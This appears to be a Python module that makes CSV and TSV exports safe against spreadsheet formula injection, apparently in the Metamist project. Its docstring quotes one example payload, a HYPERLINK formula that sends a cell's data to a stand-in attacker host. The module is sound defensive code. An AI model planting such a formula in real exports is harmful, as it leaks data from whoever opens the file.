"""CSV and TSV for download, with cells a spreadsheet would run as a formula made plain text.

Excel, LibreOffice and Google Sheets read a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula
(and some skip a leading tab or carriage return first), so an external id or a meta value such as
``=HYPERLINK("https://evil.example/?"&A2, "open")`` would become a live link or worse in whoever opens
the export (OWASP: CSV injection). Such a cell is written with a leading ``'``, which the spreadsheet
hides and which makes the rest text.

Left as they are, because no spreadsheet runs them and tools parse them: numbers, as values or as text
(``-9``, PLINK's missing phenotype; ``-0.5``; ``+3``; ``1e-5``), and a single character (``-`` as an
empty value). So the pedigree TSV that Metamist's client parses, and every ordinary export, is unchanged.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import IO, Any

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """`value`, or ``'`` + `value` when it is text a spreadsheet would take for a formula."""
    if (
        isinstance(value, str)
        and len(value) > 1
        and value.startswith(_FORMULA_STARTS)
        and not _NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class SpreadsheetWriter:
    """``csv.writer`` whose rows go through `safe_cell`."""

    def __init__(self, out: IO[str], delimiter: str, lineterminator: str = "\n") -> None:
        self._writer = csv.writer(out, delimiter=delimiter, lineterminator=lineterminator)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._writer.writerows([safe_cell(value) for value in row] for row in rows)


class SpreadsheetChunks(SpreadsheetWriter):
    """A ``SpreadsheetWriter`` into memory whose text is taken a chunk at a time, for a streamed export."""

    def __init__(self, delimiter: str) -> None:
        self._out = io.StringIO()
        super().__init__(self._out, delimiter)

    def take(self) -> str:
        """What was written since the last ``take``."""
        text = self._out.getvalue()
        self._out.seek(0)
        self._out.truncate()
        return text


__all__ = ["SpreadsheetChunks", "SpreadsheetWriter", "safe_cell"]
